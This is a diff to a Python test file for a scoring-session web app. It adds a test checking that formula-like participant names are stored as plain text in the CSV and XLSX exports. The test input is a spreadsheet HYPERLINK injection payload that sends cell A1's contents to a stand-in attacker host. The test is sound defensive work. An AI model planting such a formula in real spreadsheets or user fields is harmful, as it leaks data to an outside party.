@@ -14,7 +14,7 @@ def cast_random_scores(client, anna, phone, seed: int) -> tuple[dict, dict]:
     and {participant label: {statement: last value}} in joining order."""
     rng = random.Random(seed)
     session = client.post("/api/sessions", headers=anna, json={
-        "title": "Rondrit", "organisations": ORGANISATIONS}).json
+        "title": "Rondrit", "organisations": ORGANISATIONS, "phase": "scoring"}).json
     cast: dict[str, dict[str, int]] = {}
     for index in range(rng.randint(9, 14)):
         p = phone(session["code"], ORGANISATIONS[index % 3] if index < 9 else
@@ -55,3 +55,20 @@ def test_the_xlsx_reads_back_as_the_scores_cast(client, anna, phone):
                 if value is not None:
                     read.setdefault(row[0], {})[key] = value
     assert read == cast
+
+
+def test_a_name_that_looks_like_a_formula_stays_text_in_both_exports(client, anna, phone):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    session = client.post("/api/sessions", headers=anna, json={
+        "title": "Formules", "organisations": ["@org", *ORGANISATIONS[1:]],
+        "ask_names": True, "phase": "scoring"}).json
+    for organisation in ["@org"] * 3:  # enough respondents to be shown by name
+        assert phone(session["code"], organisation, name=formula).emit(
+            "score", {"statement": "ambition-shared", "value": 3}, callback=True) == {"ok": True}
+    text = client.get(f"/api/sessions/{session['id']}/scores.csv", headers=anna).text
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["name"] == "'" + formula and row["organisation"] == "'@org"
+    book = load_workbook(io.BytesIO(client.get(f"/api/sessions/{session['id']}/scores.xlsx",
+                                               headers=anna).data))
+    cells = list(book.worksheets[0].iter_rows(min_row=2, max_row=2))[0]
+    assert [(c.value, c.data_type) for c in cells[1:3]] == [(formula, "s"), ("@org", "s")]
